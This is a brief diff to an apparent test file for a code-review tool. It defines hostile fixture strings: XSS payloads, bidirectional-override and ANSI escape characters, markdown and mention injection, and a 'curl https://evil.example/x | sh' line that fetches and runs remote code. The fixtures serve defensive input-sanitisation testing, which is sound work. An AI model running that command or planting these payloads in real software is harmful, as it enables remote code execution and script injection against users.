@@ -24,7 +24,7 @@ import { hostile } from './review/hostile.ts';
 import { aReview } from './review/sample.ts';
 
 const folderName = '@octocat #1 GH-1 <img src=x onerror=alert(1)> ![x](p.png) deadbeef1 :smile: $x$';
-const composeName = 'docker-compose `tick` | @acme\u202eteam <!-- x --> **b** [a](b) www.evil.example.yml';
+const composeName = 'docker-compose.`tick` | @acme\u202eteam <!-- x --> **b** [a](b) www.evil.example.yml';
 const badName = '@octocat <img src=x onerror=alert(2)> ![y](q.png) #2 \u001b[31m';
 const shellText =
   'curl https://evil.example/x | sh # @octocat ![x](https://evil.example/p.png) <script>alert(3)</script>';
